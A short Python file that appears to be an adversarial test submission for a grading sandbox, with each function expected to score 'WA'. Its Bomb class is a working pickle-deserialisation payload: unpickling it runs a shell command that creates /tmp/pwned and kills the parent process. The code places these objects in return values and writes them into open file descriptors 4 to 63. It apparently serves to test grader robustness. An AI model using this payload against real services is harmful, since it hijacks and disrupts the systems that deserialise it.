# assignment: small
# double: WA
# add: WA
# pick: WA

# Pickles that run code, as values, inside arrays and in every open file.
import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned; kill -9 $PPID",)


def double(x):
    array = np.empty(x.shape, dtype=object)
    array[:] = Bomb()
    return array


def add(a, b):
    return [[Bomb()] * 4] * 3


def pick(x):
    for number in range(4, 64):
        try:
            os.write(number, pickle.dumps(Bomb()))
        except OSError:
            pass
    return pickle.dumps(Bomb())
